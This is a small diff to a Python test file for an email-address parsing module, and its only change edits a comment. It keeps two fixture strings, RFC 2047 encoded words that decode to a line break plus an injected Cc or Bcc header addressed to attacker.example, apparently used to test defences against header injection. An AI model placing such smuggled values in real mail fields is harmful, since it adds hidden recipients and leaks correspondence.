@@ -29,7 +29,7 @@ from dossier.share.letter import (
     parse_addresses,
 )
 
-# RFC 2047 encoded words that decode to a line break and a header of their own (issue 11).
+# RFC 2047 encoded words that decode to a line break and a header of their own.
 EVIL_CC = "=?utf-8?q?=0D=0ACc:_evil@attacker.example?="
 EVIL_BCC = "=?utf-8?q?=0D=0ABcc:_hidden@attacker.example?="
 TO = parse_address("Anna Åberg <anna@example.se>")
